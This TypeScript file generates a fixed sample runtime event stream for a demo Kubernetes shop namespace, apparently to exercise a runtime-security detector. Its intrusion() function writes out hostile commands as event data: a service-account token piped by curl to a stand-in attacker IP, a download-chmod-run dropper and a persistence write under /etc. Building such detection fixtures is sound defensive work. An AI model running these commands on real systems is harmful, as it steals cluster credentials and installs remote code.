/**
 * The sample runtime stream of sample/runtime/: namespace `storefront` of the sample cluster
 * (sample/cluster/), with the very pods, container ids and image digests of its Pods: the `web`
 * Deployment's nginx proxying to the `frontend` Deployment (a Node.js app), which calls the `api`
 * Deployment. Two hours of normal behaviour, the first of which is the learning window, an
 * intrusion in the frontend container at 10:42 (shell, discovery, service-account token read and
 * sent out with curl, a binary dropped in /tmp and run, a write under /etc, a connection to a
 * non-web port, a Falco alert) and HTTP traffic between the workloads, some with personal data in
 * the query string. Deterministic: the same every run. Because the ids are the sample Pods', the
 * insight's `container_id` is that of a container in the inventory once both samples are pushed.
 *
 * @example
 *   writeFileSync('sample/runtime/shop-events.ndjson', shopStream().map((e) => JSON.stringify(e)).join('\n') + '\n');
 */
import { ShopTimeline, type StreamLine, type Workload } from './timeline.js';

export const SAMPLE_START = '2025-03-03T09:00:00.000Z';
/** The account settings the sample is meant for (docs/runtime-events.md, sample). */
export const SAMPLE_TRUSTED_PREFIXES = [
  { cidr: '10.0.0.0/8', name: 'cluster network', description: 'Node and pod range of the demo cluster' },
  { cidr: '172.20.0.0/16', name: 'service network', description: 'Service cluster IPs of the demo cluster' },
  { cidr: '198.51.100.0/28', name: 'payments-gateway', description: 'Payment provider API' },
];

const NODE = 'ip-10-0-1-23.eu-west-1.compute.internal';
const NAMESPACE = 'storefront';

/** One container of a sample Pod (sample/cluster/03-pods.json), as its runtime agent sees it. */
function sampleContainer(
  workload: string,
  pod: string,
  container: { name: string; id: string; image: string; digest: string },
): Workload {
  return {
    container: {
      id: `containerd://${container.id}`,
      name: container.name,
      image_name: container.image,
      image_digest: `sha256:${container.digest}`,
      runtime: 'containerd',
    },
    kubernetes: {
      cluster: 'demo',
      namespace: NAMESPACE,
      pod,
      node: NODE,
      workload_kind: 'Deployment',
      workload_name: workload,
    },
  };
}

const NGINX = sampleContainer('web', 'web-jhhqgp67hf-jql9v', {
  name: 'nginx',
  id: '13353bbd8bb888e544e8a49abfc5130face4a751071e9ac70c1a3e2ac2c4a0dc',
  image: 'nginx:1.27.2',
  digest: 'b234c7b099c1265d4927c74bb87ea754b8b674c9eed1f43f28d7a1d5e351c388',
});
const APP = sampleContainer('frontend', 'frontend-c4q9kz6d4s-j886w', {
  name: 'frontend',
  id: '8fa445408d8ea6d6597586c681dc4a23e16944e0aaffcc332685836a0a014815',
  image: 'acme/frontend:latest',
  digest: '38aa098cc16311628eba2cdf7e8eaeaa5def8e9806a2e2d687802f86a708ab3d',
});
const API = sampleContainer('api', 'api-h9q9d9jrtg-4hj9v', {
  name: 'api',
  id: '06c771c36397f03b2d912ca2c5710cdd042e6df9e04f2d09125dd48df2098715',
  image: 'ghcr.io/acme/storefront-api:3.8.0',
  digest: '6cc12ad82a3400176d04a9047b31cd0321f24757a852d3a15f89e9624d390f2a',
});
const FRONTEND_SERVICE = {
  address: '172.20.183.199',
  port: 80,
  hostname: 'frontend.storefront.svc.cluster.local',
  k8s_name: 'frontend',
  k8s_namespace: NAMESPACE,
};
const API_SERVICE = { address: '172.20.37.159', port: 8080, hostname: 'api.storefront.svc.cluster.local' };
/** payments/ledger, a headless Service: clients reach its pod directly. */
const LEDGER = {
  address: '10.0.1.41',
  port: 5432,
  hostname: 'ledger-0.ledger.payments.svc.cluster.local',
  k8s_name: 'ledger',
  k8s_namespace: 'payments',
};
const ATTACKER = '203.0.113.45';
const APP_ADDRESS = '10.0.1.30';
const API_ADDRESS = '10.0.1.32';
/** The destination of the frontend's calls to the api, as the HTTP probe resolves it. */
const API_DESTINATION = {
  ...API_SERVICE,
  workload_kind: 'Deployment',
  workload_name: 'api',
  namespace: NAMESPACE,
  service_name: 'api',
  service_namespace: NAMESPACE,
};

function normalHour(t: ShopTimeline, hour: number): void {
  const at = (minute: number, second = 0) => t.time(hour * 60 + minute, second);
  for (let minute = 0; minute < 60; minute += 2) {
    t.connect(NGINX, at(minute, 5), { pid: 30, comm: 'nginx' }, FRONTEND_SERVICE);
    t.connect(
      APP,
      at(minute, 7),
      { pid: 1, comm: 'node' },
      { ...API_SERVICE, k8s_name: 'api', k8s_namespace: NAMESPACE },
    );
    t.connect(API, at(minute, 9), { pid: 1, comm: 'gunicorn' }, LEDGER);
  }
  for (let minute = 3; minute < 60; minute += 6) {
    const n = t.int(1, 9);
    t.open(
      NGINX,
      at(minute, 11),
      { pid: 30, comm: 'nginx' },
      `/var/cache/nginx/proxy_temp/${n}/0${n}/000000000${n}`,
      ['O_RDWR', 'O_CREAT', 'O_EXCL'],
    );
    t.open(NGINX, at(minute, 12), { pid: 30, comm: 'nginx' }, '/usr/share/nginx/html/index.html', [
      'O_RDONLY',
    ]);
  }
  for (let minute = 5; minute < 60; minute += 10) {
    const pid = t.pid();
    t.exec(
      APP,
      at(minute),
      { pid, ppid: 1, comm: 'node', exe: '/usr/local/bin/node', uid: 1000, gid: 1000 },
      ['/app/scripts/rotate-cache.js', '--max-age', String(t.int(1800, 7200)), '--run-id', t.uuid()],
    );
    t.open(APP, at(minute, 1), { pid, comm: 'node' }, `/tmp/cache-${t.int(1000, 9999)}.json`, [
      'O_WRONLY',
      'O_CREAT',
      'O_TRUNC',
    ]);
    const job = t.pid();
    t.exec(
      API,
      at(minute, 30),
      { pid: job, ppid: 1, comm: 'python3', exe: '/usr/local/bin/python3.12', uid: 10001, gid: 10001 },
      [
        '-m',
        'app.jobs.cleanup',
        '--batch',
        String(t.int(100, 900)),
        '--since',
        t.time(hour * 60 + minute - 30),
      ],
    );
    t.connect(API, at(minute, 31), { pid: job, comm: 'python3' }, LEDGER);
  }
  for (let minute = 7; minute < 60; minute += 15) {
    t.connect(
      API,
      at(minute, 40),
      { pid: 1, comm: 'gunicorn' },
      { address: '198.51.100.10', port: 443, hostname: 'api.payments.example' },
    );
    t.http(API, at(minute, 41), { method: 'POST', path: '/v1/charges', status: 201 }, API_ADDRESS, {
      address: '198.51.100.10',
      port: 443,
      hostname: 'api.payments.example',
    });
  }
  const routes = [
    () => `/api/products?page=${t.int(1, 12)}&sort=price`,
    () => `/api/products/${t.int(100, 999)}`,
    () => `/api/cart/${t.uuid()}/items`,
    () => `/api/users/${t.int(1000, 99999)}/orders`,
  ];
  for (let minute = 1; minute < 60; minute += 3) {
    const route = routes[t.int(0, routes.length - 1)]!();
    const method = route.includes('/cart/') ? 'POST' : 'GET';
    t.http(APP, at(minute, 20), { method, path: route, status: 200 }, APP_ADDRESS, API_DESTINATION);
  }
}

function startup(t: ShopTimeline): void {
  t.exec(NGINX, t.time(0), { pid: 1, ppid: 0, comm: 'nginx', exe: '/usr/sbin/nginx', uid: 0, gid: 0 }, [
    '-g',
    'daemon off;',
  ]);
  for (const path of ['/etc/nginx/nginx.conf', '/etc/nginx/conf.d/default.conf', '/etc/nginx/mime.types']) {
    t.open(NGINX, t.time(0, 1), { pid: 1, comm: 'nginx' }, path, ['O_RDONLY']);
  }
  t.exec(
    APP,
    t.time(0, 2),
    { pid: 1, ppid: 0, comm: 'node', exe: '/usr/local/bin/node', uid: 1000, gid: 1000 },
    ['/app/server.js'],
  );
  for (const path of [
    '/app/server.js',
    '/app/package.json',
    '/etc/resolv.conf',
    '/etc/ssl/certs/ca-certificates.crt',
  ]) {
    t.open(APP, t.time(0, 3), { pid: 1, comm: 'node' }, path, ['O_RDONLY']);
  }
  t.exec(
    API,
    t.time(0, 1),
    { pid: 1, ppid: 0, comm: 'gunicorn', exe: '/usr/local/bin/python3.12', uid: 10001, gid: 10001 },
    ['app:app', '--bind', '0.0.0.0:8000', '--workers', '2'],
  );
  // The api reads its token on start to watch a ConfigMap: token reads are normal there.
  t.open(
    API,
    t.time(0, 2),
    { pid: 1, comm: 'gunicorn' },
    '/var/run/secrets/kubernetes.io/serviceaccount/token',
    ['O_RDONLY'],
  );
  t.connect(
    API,
    t.time(0, 3),
    { pid: 1, comm: 'gunicorn' },
    { address: '10.96.0.1', port: 443, k8s_name: 'kubernetes', k8s_namespace: 'default' },
  );
}

function intrusion(t: ShopTimeline): void {
  const at = (second: number) => t.time(102, second); // 10:42
  const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
  const shell = { pid: 4101, ppid: 1, comm: 'sh', exe: '/bin/sh', uid: 1000, gid: 1000 };
  t.exec(APP, at(11), shell, [
    '-c',
    `id; uname -a; cat ${token} | curl -s -X POST --data-binary @- https://${ATTACKER}/t`,
  ]);
  t.exec(APP, at(11.2), { pid: 4102, ppid: 4101, comm: 'id', exe: '/usr/bin/id', uid: 1000, gid: 1000 }, []);
  t.exec(APP, at(11.3), { pid: 4103, ppid: 4101, comm: 'uname', exe: '/bin/uname', uid: 1000, gid: 1000 }, [
    '-a',
  ]);
  t.exec(APP, at(11.4), { pid: 4104, ppid: 4101, comm: 'cat', exe: '/bin/cat', uid: 1000, gid: 1000 }, [
    token,
  ]);
  t.open(APP, at(11.5), { pid: 4104, comm: 'cat' }, token, ['O_RDONLY']);
  const curl = { pid: 4105, ppid: 4101, comm: 'curl', exe: '/usr/bin/curl', uid: 1000, gid: 1000 };
  t.exec(APP, at(11.4), curl, ['-s', '-X', 'POST', '--data-binary', '@-', `https://${ATTACKER}/t`]);
  t.connect(APP, at(11.6), { pid: 4105, comm: 'curl' }, { address: ATTACKER, port: 443 });
  const dropper = { pid: 4120, ppid: 1, comm: 'sh', exe: '/bin/sh', uid: 1000, gid: 1000 };
  t.exec(APP, at(52), dropper, [
    '-c',
    `curl -s -o /tmp/.kx http://${ATTACKER}/kx && chmod +x /tmp/.kx && /tmp/.kx`,
  ]);
  t.exec(APP, at(52.1), { pid: 4121, ppid: 4120, comm: 'curl', exe: '/usr/bin/curl', uid: 1000, gid: 1000 }, [
    '-s',
    '-o',
    '/tmp/.kx',
    `http://${ATTACKER}/kx`,
  ]);
  t.connect(APP, at(52.2), { pid: 4121, comm: 'curl' }, { address: ATTACKER, port: 80 });
  t.open(APP, at(52.4), { pid: 4121, comm: 'curl' }, '/tmp/.kx', ['O_WRONLY', 'O_CREAT', 'O_TRUNC']);
  t.exec(APP, at(53), { pid: 4122, ppid: 4120, comm: 'chmod', exe: '/bin/chmod', uid: 1000, gid: 1000 }, [
    '+x',
    '/tmp/.kx',
  ]);
  t.exec(APP, at(53.2), { pid: 4123, ppid: 4120, comm: '.kx', exe: '/tmp/.kx', uid: 1000, gid: 1000 }, []);
  t.falco(APP, at(53.2), {
    rule: 'Drop and execute new binary in container',
    priority: 'Critical',
    tags: ['maturity_stable', 'container', 'process', 'mitre_persistence', 'TA0003', 'PCI_DSS_11.5.1'],
    process: { pid: 4123, ppid: 4120, name: '.kx', exepath: '/tmp/.kx', cmdline: '.kx', uid: 1000 },
  });
  t.open(APP, at(54), { pid: 4123, comm: '.kx' }, '/etc/profile.d/kx.sh', ['O_WRONLY', 'O_CREAT', 'O_TRUNC']);
  t.connect(APP, at(55), { pid: 4123, comm: '.kx' }, { address: '198.51.100.23', port: 4444 });
}

/** Requests whose query strings carry personal data, from 10:15 on. */
function piiTraffic(t: ShopTimeline): void {
  const paths = [
    '/api/customers/lookup?email=jane.doe%40example.com',
    '/api/payments/verify?card=4111111111111111&amount=42.50',
    '/api/users/search?phone=%2B1-415-555-0132',
    '/api/customers/lookup?email=m.rossi%40example.org',
  ];
  paths.forEach((path, i) => {
    t.http(APP, t.time(75 + i * 9, 30), { method: 'GET', path, status: 200 }, APP_ADDRESS, API_DESTINATION);
  });
}

export function shopStream(): StreamLine[] {
  const t = new ShopTimeline(SAMPLE_START, 20250303);
  startup(t);
  normalHour(t, 0);
  normalHour(t, 1);
  intrusion(t);
  piiTraffic(t);
  return t.events();
}
